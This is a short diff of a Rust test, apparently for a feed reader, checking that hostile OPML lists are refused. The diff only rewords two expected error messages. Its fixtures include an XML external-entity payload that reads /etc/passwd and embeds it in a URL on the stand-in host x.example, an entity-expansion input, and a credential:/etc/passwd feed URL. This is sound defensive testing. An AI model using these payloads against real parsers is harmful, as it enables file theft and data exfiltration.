@@ -111,8 +111,8 @@ fn hostile_lists_are_bounded_and_change_nothing() {
     let outside = "<!DOCTYPE opml [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><opml><body><outline text=\"&f;\" xmlUrl=\"https://x.example/&f;\"/></body></opml>";
     for (text, says) in [
         (deep.as_str(), "too deep"),
-        (laughs, "means nothing in XML"),
-        (outside, "means nothing in XML"),
+        (laughs, "declares for itself"),
+        (outside, "declares for itself"),
         ("<opml><body><outline", "broken XML"),
         ("<html><body/></html>", "no list of feeds"),
         ("<opml><body><outline xmlUrl=\"credential:/etc/passwd\"/></body></opml>", "1 refused"),
